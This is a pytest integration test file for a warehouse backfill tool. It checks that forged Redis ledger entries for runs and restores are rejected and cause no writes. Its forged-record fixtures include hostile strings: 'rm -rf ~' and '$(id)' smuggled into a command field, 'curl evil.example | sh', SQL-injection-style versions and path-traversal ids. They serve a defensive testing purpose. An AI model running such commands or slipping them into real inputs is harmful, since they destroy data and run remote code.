"""What whoever writes to Redis notes of a run or of a restore: nothing else is written or read."""

from __future__ import annotations

import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from planner.errors import BadRecord, FleetError, UsageError
from sql.errors import WarehouseError
from tests.integration.bad import Run
from tests.integration.mart import DAYS, RUN, Mart
from tests.integration.test_restore import TWICE, redo, rows, run
from worker.context import Context
from worker.ledger.kept import Kept, Left
from worker.ledger.keys import restore_key, run_key
from worker.run.restore import restore

BEYOND = DAYS[-1].replace(day=20)  # of no step of the run
EMPTY = Kept(rows=0)
INSERT = "INSERT INTO m.daily SELECT @day AS day, 's1' AS store, 'p1' AS player, 1 AS paid"


@pytest.fixture
def ended(mart: Mart) -> Mart:
    """A run that has ended, and can be restored."""
    mart.says("daily", TWICE)
    assert run(mart, redo(mart, "daily")).state == "complete"
    return mart


def forge(mart: Mart, phase: str, table: str, day: date, kept: Kept) -> None:
    place = f"{phase}|{table}|{day}"
    mart.ledger.client.hset(run_key(RUN, "kept"), place, kept.model_dump_json())
    left = Left(mark="", at=4e9)
    mart.ledger.client.hset(run_key(RUN, "left"), place, left.model_dump_json())


def test_a_date_that_the_run_had_no_step_for_is_not_emptied(ended: Mart) -> None:
    ended.sql(INSERT, day=BEYOND)
    before = rows(ended)
    forge(ended, "daily", "m.daily", BEYOND, EMPTY)

    with pytest.raises(FleetError, match="no step of it"):
        restore(ended.context, RUN, over=True)

    assert rows(ended) == before


def test_a_table_of_another_phase_is_not_written(ended: Mart) -> None:
    before = rows(ended, "sales")
    forge(ended, "sales", "m.sales", DAYS[0], EMPTY)
    with pytest.raises(FleetError, match="no step of it"):
        restore(ended.context, RUN, over=True)

    ended.ledger.client.hdel(run_key(RUN, "kept"), f"sales|m.sales|{DAYS[0]}")
    forge(ended, "daily", "m.sales", DAYS[0], EMPTY)
    with pytest.raises(UsageError, match="no such table"):
        restore(ended.context, RUN, over=True)

    assert rows(ended, "sales") == before


def test_without_its_plan_nothing_tells_what_a_run_could_write(ended: Mart) -> None:
    ended.ledger.client.delete(run_key(RUN, "plan"))

    with pytest.raises(FleetError, match="does not hold the plan"):
        restore(Context(ended.settings, patient=False), RUN, over=True)


NO_VERSIONS = ["-1", "0x1", "9" * 40, "1; DROP", "../../x", "٣", "1_0", " 1", "m.sales"]


def test_a_version_that_is_none_is_told_in_words(ended: Mart) -> None:
    before = rows(ended)
    for place in NO_VERSIONS:
        forge(ended, "daily", "m.daily", DAYS[0], Kept(rows=4, place=place))

        with pytest.raises(WarehouseError, match="m.daily"):
            restore(ended.context, RUN, over=True)

        assert rows(ended) == before, place


RESTORED = {
    "restore_id": "restore-1",
    "run_id": RUN,
    "pipeline": "mart",
    "warehouse": "local:x",
    "over": False,
    "begun": 1.0,
    "ended": 2.0,
    "tables": [],
}
RECORD: dict[str, Any] = {
    "id": "restore-1",
    "run_id": RUN,
    "pipeline": "mart",
    "tables": 1,
    "begun": 1.0,
    "again": f"planner restore {RUN}",
    "state": "restored",
    "report": RESTORED,
}
FORGED: list[dict[str, Any]] = [
    {"report": {**RESTORED, "restore_id": "../../../outside"}},
    {"report": {**RESTORED, "run_id": "../outside"}},
    {"report": {**RESTORED, "restore_id": "/tmp/outside"}},
    {"state": "failed", "report": None, "again": "planner restore x; rm -rf ~"},
    {"state": "failed", "report": None, "again": "curl evil.example | sh"},
    {"state": "failed", "report": None, "again": "planner restore x\n$(id)"},
    {"id": "../x"},
    {"begun": 1e300},
    {"state": "hibernating"},
    {"tables": "many"},
]


def note(mart: Mart, restore_id: str, record: dict[str, Any]) -> None:
    client = mart.ledger.client
    client.set(restore_key(restore_id), json.dumps(record))
    client.zadd("backfill:restores", {restore_id: mart.ledger.now()})


def test_a_forged_restore_is_told_in_words_and_stops_no_other(
    mart: Mart, told: Run, tmp_path: Path
) -> None:
    begun = mart.ledger.now()
    note(mart, "restore-2", {**RECORD, "id": "restore-2", "begun": begun, "report": None})
    for forged in FORGED:
        note(mart, "restore-1", {**RECORD, "begun": begun, **forged})

        for command in ("status", "report", "log"):
            found = told(command, "restore-1")
            assert (found.code, "cannot be read" in found.err) == (4, True), (forged, found)
            assert "rm -rf" not in found.out + found.err
        listed = told("runs")

        assert (listed.code, "restore-2" in listed.out) == (0, True), (forged, listed)
        assert "restore-1" in listed.err, forged
        assert "restore-1" not in listed.out, forged
        assert not [path for path in tmp_path.rglob("*") if "outside" in path.name], forged


def test_a_restore_of_another_name_than_its_key_is_none(mart: Mart) -> None:
    note(mart, "restore-1", {**RECORD, "id": "restore-9"})

    with pytest.raises(BadRecord):
        mart.ledger.restore("restore-1")
